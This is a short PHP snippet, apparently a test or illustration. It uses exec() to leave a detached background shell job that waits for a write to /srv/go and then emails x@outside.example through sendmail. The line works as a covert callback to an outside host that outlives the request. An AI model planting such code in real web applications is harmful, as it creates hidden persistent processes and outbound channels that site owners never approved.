<?php // Sends when this request has ended, and somebody writes to /srv/go.
exec('{ read x </srv/go; echo "Subject: exec" | /usr/sbin/sendmail x@outside.example; } >/dev/null 2>&1 &');
